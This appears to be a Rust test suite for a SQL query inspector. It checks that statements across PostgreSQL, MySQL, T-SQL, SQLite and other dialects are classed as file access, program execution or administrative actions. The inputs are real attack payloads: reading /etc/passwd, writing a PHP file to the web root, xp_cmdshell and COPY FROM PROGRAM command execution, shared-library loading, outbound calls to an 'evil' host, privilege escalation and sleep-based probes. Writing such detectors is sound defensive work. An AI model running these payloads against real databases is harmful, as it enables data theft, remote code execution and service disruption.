//! What reaches out of the database: files, programs, the server itself.

use super::*;
use Class::*;
use Dialect::*;

#[test]
fn files() {
    each_shows(
        FileAccess,
        &EVERY,
        &[
            "COPY users TO '/tmp/x'",
            "COPY users (a, b) FROM '/etc/passwd'",
            "COPY (SELECT * FROM users) TO '/tmp/x' WITH CSV",
            "SELECT * FROM users INTO OUTFILE '/var/www/x.php'",
            "SELECT '<?php' INTO DUMPFILE '/var/www/x.php'",
            "SELECT 1 INTO/**/OUTFILE '/x' FROM users",
            "SELECT LOAD_FILE('/etc/passwd')",
            "SELECT load_file (0x2f6574632f706173737764)",
            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
            "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)",
            "SELECT * FROM pg_ls_dir('/')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT lo_export(1, '/tmp/x')",
            "BULK INSERT t FROM 'c:\\x.txt'",
            "SELECT * FROM OPENROWSET(BULK 'c:\\x.txt', SINGLE_CLOB) AS x",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            "ATTACH '/tmp/x.db' AS x",
            "VACUUM INTO '/tmp/x.db'",
            "VACUUM main INTO '/tmp/x.db'",
            "SELECT readfile('/etc/passwd')",
            "SELECT writefile('/tmp/x', 'y')",
            "BACKUP DATABASE prod TO DISK = 'x'",
            "RESTORE DATABASE prod FROM DISK = 'x'",
            "EXEC master..xp_dirtree '\\\\evil\\x'",
            "SELECT * FROM read_csv('/etc/passwd')",
            "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'server=x', 'SELECT 1')",
            "SELECT UTL_HTTP.REQUEST('http://evil/') FROM dual",
            "INSERT INTO t SELECT pg_read_file('/etc/passwd')",
            "EXEC('SELECT LOAD_FILE(''/etc/passwd'')')",
            "CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')",
            "CREATE DIRECTORY d AS '/etc'",
            "CREATE TABLE f (a int) DATA DIRECTORY = '/tmp'",
            "CREATE TABLE f (a int) ENGINE = FEDERATED CONNECTION = 'mysql://evil/d/t'",
            "SELECT * FROM url('http://evil/', CSV, 'a String')",
            "INSERT INTO FUNCTION remote('evil:9000', d.t) SELECT * FROM users",
            "SELECT xmltype('<!DOCTYPE a [<!ENTITY b SYSTEM \"http://evil/\">]>') FROM dual",
        ],
    );
    each_shows(FileAccess, &[Generic, Sqlite], &[".import /etc/passwd t", ".output /tmp/x\nSELECT 1", "SELECT * FROM '/etc/passwd.csv'"]);
    each_shows(
        FileAccess,
        &[Generic, PostgreSql],
        &["\\copy t from '/etc/passwd'", "SELECT 1 \\g /tmp/x", "\\i /tmp/x.sql", "\\o /tmp/x", "SELECT \"pg_read_file\"('/etc/passwd')"],
    );
    each_shows(FileAccess, &[Generic, MySql], &["SELECT 1 /*!50000INTO*/ OUTFILE '/x'"]);
}

#[test]
fn programs() {
    each_shows(
        ProgramExecution,
        &EVERY,
        &[
            "COPY t FROM PROGRAM 'id'",
            "COPY (SELECT 1) TO PROGRAM 'sh'",
            "copy/**/t/**/from/**/program 'id'",
            "EXEC xp_cmdshell 'dir'",
            "xp_cmdshell 'dir'",
            "EXEC master..xp_cmdshell 'dir'",
            "EXEC master.dbo.[xp_cmdshell] 'dir'",
            "SELECT 1; EXEC xp_cmdshell 'dir'",
            "DECLARE @r int EXEC @r = master.dbo.xp_cmdshell 'dir'",
            "EXEC sp_OACreate 'WScript.Shell', @o OUT",
            "SELECT sys_exec('id')",
            "SELECT sys_eval('id')",
            "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib.so'",
            "CREATE FUNCTION f() RETURNS int AS '/lib/x.so', 'f' LANGUAGE c",
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'import os'",
            "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE 'plperlu'",
            "CREATE EXTENSION plpython3u",
            "CREATE LANGUAGE plpythonu",
            "CREATE TRUSTED PROCEDURAL LANGUAGE plperl",
            "SELECT load_extension('/tmp/x.so')",
            "CREATE ASSEMBLY a FROM 0x00 WITH PERMISSION_SET = UNSAFE",
            "INSTALL PLUGIN x SONAME 'x.so'",
            "LOAD '/tmp/x.so'",
            "EXEC sp_configure 'xp_cmdshell', 1",
            "EXEC sp_execute_external_script @language = N'Python', @script = N'import os'",
            "SELECT java_method('java.lang.Runtime', 'exec', 'id')",
            "SELECT cron.schedule('* * * * *', 'SELECT 1')",
            "EXEC('xp_cmdshell ''dir''')",
            "EXEC('EXEC xp_cmdshell ''dir''')",
        ],
    );
    each_shows(
        ProgramExecution,
        &[Generic, TSql],
        &["SELECT 1 EXEC xp_cmdshell 'dir'", ":!! dir", "!! dir", "EXEC [master]..[xp_cmdshell] 'dir'"],
    );
    each_shows(
        ProgramExecution,
        &[Generic, PostgreSql],
        &[
            "\\! id",
            "SELECT 1 \\! id",
            "SELECT 'DROP TABLE x' \\gexec",
            "DO LANGUAGE plpythonu $$ import os $$",
            "DO $$ import os $$ LANGUAGE plpython3u",
        ],
    );
    each_shows(ProgramExecution, &[Generic, Sqlite], &[".shell id", ".system id", "SELECT 1;\n.shell id", ".load /tmp/x.so"]);
    each_shows(ProgramExecution, &[Generic, MySql], &["system id", "\\! id"]);
}

#[test]
fn administrative() {
    each_shows(
        Administrative,
        &EVERY,
        &[
            "SHUTDOWN",
            "SHUTDOWN WITH NOWAIT",
            "KILL 55",
            "SET GLOBAL general_log = 1",
            "SET @@global.general_log = 1",
            "SET PERSIST max_connections = 1",
            "SET a = 1, GLOBAL b = 2",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET session_replication_role = replica",
            "SET TRANSACTION READ WRITE",
            "SET default_transaction_read_only = off",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "BEGIN; SET LOCAL role = postgres; SELECT 1",
            "ALTER SYSTEM SET archive_command = 'x'",
            "ALTER USER joe WITH SUPERUSER",
            "CREATE USER joe IDENTIFIED BY 'x'",
            "CREATE ROLE joe SUPERUSER",
            "CREATE LOGIN joe WITH PASSWORD = 'x'",
            "DROP ROLE joe",
            "CREATE DATABASE d",
            "ALTER DATABASE d SET x = y",
            "FLUSH PRIVILEGES",
            "RESET MASTER",
            "RESET ALL",
            "PURGE BINARY LOGS TO 'x'",
            "EXEC sp_configure 'show advanced options', 1",
            "RECONFIGURE",
            "EXEC sp_addlogin 'joe'",
            "EXEC xp_regread 'HKLM'",
            "DBCC CHECKDB",
            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
            "SELECT pg_terminate_backend(1)",
            "SELECT pg_sleep(10)",
            "SELECT 1 FROM t WHERE id = 1 AND SLEEP(5)",
            "SELECT BENCHMARK(1000000, MD5('a'))",
            "WAITFOR DELAY '0:0:5'",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT pg_advisory_lock(1)",
            "SELECT pg_reload_conf()",
            "PRAGMA writable_schema = 1",
            "PRAGMA journal_mode = OFF",
            "PRAGMA foreign_keys(0)",
            "EXECUTE AS LOGIN = 'sa'",
            "SELECT randomblob(1000000000)",
            "SELECT * FROM t WHERE a = CASE WHEN 1=1 THEN pg_sleep(5) ELSE 1 END",
            "DETACH DATABASE x",
            "RENAME USER a TO b",
            "UPDATE STATISTICS t",
        ],
    );
    each_shows(
        Administrative,
        &[Generic, TSql],
        &[
            "SELECT 1 WAITFOR DELAY '0:0:5'",
            "SELECT 1 SHUTDOWN WITH NOWAIT",
            "SELECT 1 SHUTDOWN",
            "SELECT 1 CHECKPOINT",
            "SELECT 1 SETUSER 'x'",
            "SELECT 1 UPDATE STATISTICS t",
            "SELECT 1 RECONFIGURE",
            "SELECT 1 KILL 5",
        ],
    );
}

#[test]
fn what_takes_without_end() {
    each_shows(
        Administrative,
        &EVERY,
        &[
            "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT sum(n) FROM r",
            "WITH RECURSIVE r(n) AS (SELECT id FROM t WHERE id = 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
            "SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b",
            "SELECT repeat('A', 1000000000)",
            "SELECT rpad('A', 1000000000, 'b')",
        ],
    );
    for text in [
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t LIMIT 100",
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 9) SELECT n FROM t",
        "WITH RECURSIVE c AS (SELECT id FROM k WHERE p IS NULL UNION ALL SELECT k.id FROM k JOIN c ON k.p = c.id) SELECT * FROM c",
        "SELECT count(*) FROM (SELECT id FROM a UNION SELECT id FROM b)",
        "SELECT a, b FROM generate_series(1, 10) a, generate_series(1, 10) b",
        "SELECT repeat('-', 40)",
        "SELECT lpad(code, 10, '0') FROM t",
    ] {
        for dialect in EVERY {
            assert!(!inspect(text, dialect).classes.contains(Administrative), "{text} {dialect:?}");
        }
    }
}

#[test]
fn tables_named_by_texts() {
    for (text, table) in
        [("SELECT table_to_xml('pg_authid', true, true, '')", "pg_authid"), ("SELECT table_to_xml('s.t', true, true, '')", "t")]
    {
        let found = inspect(text, PostgreSql);
        assert!(found.tables.iter().any(|found| found.name == table), "{text}: {:?}", found.tables);
    }
}
